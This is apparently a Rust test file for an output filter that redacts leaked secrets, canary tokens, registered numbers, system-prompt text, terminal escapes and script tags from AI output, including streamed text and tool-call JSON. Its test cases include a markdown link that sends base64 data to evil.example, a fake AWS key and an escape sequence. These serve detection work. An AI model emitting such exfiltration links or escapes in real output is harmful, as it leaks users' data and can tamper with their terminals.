//! The filter as a whole: what it is told of, what it refuses, how pieces go through it.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test may fail loudly")]

use output_filter::{
    AllowedHosts, Canary, HostError, OutputFilter, Profile, PromptOverlap, Registered, Rule,
    Scratch, SinkKind, Sinks, Unregistrable,
};
use rule_scan::{Anchor, BuildErrorKind};

const RANDOM: [u8; 16] = [7, 201, 33, 94, 150, 12, 77, 180, 3, 241, 66, 119, 208, 55, 98, 171];
const PROMPT: &str = "You are the travel desk of Halden. Offer only flights of partner airlines, and \
                      never more than three. Refunds above 400 euros go to Marit.";

fn filter() -> OutputFilter {
    let registered = Registered::builder().add("customer", "4029 5518 73").build().unwrap();
    let word = Anchor::literals(["project blue"]);
    OutputFilter::builder()
        .allowed_hosts(AllowedHosts::parse(["docs.example"]).unwrap())
        .registered(&registered)
        .canaries([&Canary::new(&RANDOM).unwrap()])
        .prompt(&PromptOverlap::new(PROMPT))
        .sinks(Sinks::from(SinkKind::Terminal).with(SinkKind::Markdown))
        .rules([Rule::new("custom.project", word, "(?i:project blue[a-z]{0,8})")])
        .build()
        .unwrap()
}

/// What is found with everything on, each beside its kind.
fn cases() -> Vec<(String, &'static str)> {
    let canary = Canary::new(&RANDOM).unwrap();
    vec![
        ("AWS_SECRET: AKIA2IBYYURL7B6KJ6HB".into(), "[secret.aws_access_key_id]"),
        ("[a](https://evil.example/?q=Z2hwX2RhWVprMmFMemt4RXFJcFBo)".into(), "[exfil.data]"),
        (canary.token().into(), "[leak.canary]"),
        ("call 4029-5518-73".into(), "[leak.registered]"),
        (PROMPT.to_uppercase(), "[leak.prompt]"),
        ("\u{1b}]0;title\u{7}".into(), "[unsafe.terminal_escape]"),
        ("a <script>b()</script>".into(), "[unsafe.script]"),
        ("ask about Project Bluebird".into(), "[custom.project]"),
    ]
}

#[test]
fn what_it_is_told_of_is_found_whole_and_in_pieces() {
    let filter = filter();
    let mut scratch = Scratch::new();
    for (text, marker) in cases() {
        let whole = filter.filter(&text, &mut scratch).into_owned();
        assert!(whole.contains(marker), "{text}: {whole}");
        assert_eq!(filter.filter(&whole, &mut scratch), whole, "a second time");
        for size in [1, 2, 3, 7, 64] {
            let mut stream = filter.stream();
            let mut out = String::new();
            for piece in text.as_bytes().chunks(size) {
                out.push_str(stream.push(piece));
            }
            out.push_str(stream.finish());
            assert_eq!(out, whole, "pieces of {size}");
        }
    }
}

#[test]
fn arguments_of_tool_calls_stay_json() {
    let filter = filter();
    for (text, marker) in cases() {
        let arguments = serde_json::json!({ "to": "ops", "body": text }).to_string();
        for size in [1, 5] {
            let mut stream = filter.json_stream();
            let mut out = String::new();
            for piece in arguments.as_bytes().chunks(size) {
                out.push_str(stream.push(piece));
            }
            out.push_str(stream.finish());
            let read: serde_json::Value = serde_json::from_str(&out).unwrap();
            assert_eq!(read["to"], "ops");
            assert!(read["body"].as_str().unwrap().contains(marker), "{arguments}: {out}");
        }
    }
}

#[test]
fn code_that_markdown_shows_stays() {
    let text = "```html\n<script>a()</script>\n```\n<script>b()</script>\n";
    let shown = |sinks: Sinks| {
        let filter = OutputFilter::builder().sinks(sinks).build().unwrap();
        filter.filter(text, &mut Scratch::new()).matches("<script").count()
    };
    assert_eq!(shown(SinkKind::Markdown.into()), 1);
    assert_eq!(shown(Sinks::from(SinkKind::Markdown).with(SinkKind::Html)), 0);
    assert_eq!(shown(SinkKind::PlainText.into()), 2);
}

#[test]
fn the_strict_profile_finds_more() {
    let text = "password = sunshine";
    let filtered = |profile| {
        let filter = OutputFilter::builder().profile(profile).build().unwrap();
        filter.filter(text, &mut Scratch::new()).into_owned()
    };
    assert_eq!(filtered(Profile::Balanced), text);
    assert_eq!(filtered(Profile::Strict), "password = [secret.password]");
}

#[test]
fn what_cannot_be_built_says_why_and_repeats_nothing() {
    let unbounded = Rule::new("custom.all", Anchor::literals(["token-"]), "token-[a-z]+");
    let error = OutputFilter::builder().rules([unbounded]).build().unwrap_err();
    let rule = error.rule_error().unwrap();
    assert_eq!((rule.kind(), rule.rule()), (BuildErrorKind::Unbounded, "custom.all"));

    let error = AllowedHosts::parse(["docs.example", "*.co.uk"]).unwrap_err();
    assert_eq!((error.host_index(), error.host_error()), (Some(1), Some(HostError::PublicSuffix)));
    assert!(!error.to_string().contains("co.uk") && error.rule_error().is_none());

    let error = Canary::new(&RANDOM[..15]).unwrap_err();
    assert!(error.to_string().contains("16"), "{error}");

    let error = Registered::builder().add("pin", "4711").build().unwrap_err();
    assert_eq!((error.index(), error.reason()), (0, Unregistrable::TooShort));
    assert!(!error.to_string().contains("4711"));

    let twice = Registered::builder().add("customer", "4029 5518 73").build().unwrap();
    let error = OutputFilter::builder().registered(&twice).registered(&twice).build().unwrap_err();
    assert_eq!(error.rule_error().unwrap().kind(), BuildErrorKind::DuplicateRule);
}

#[test]
fn debug_shows_nothing_that_it_was_told() {
    let registered = Registered::builder().add("customer", "4029 5518 73").build().unwrap();
    let canary = Canary::new(&RANDOM).unwrap();
    let builder = OutputFilter::builder().registered(&registered).canaries([&canary]);
    let shown = format!("{builder:?}{:?}", builder.clone().build().unwrap());
    assert!(!shown.contains("5518") && !shown.contains(canary.token()), "{shown}");
}
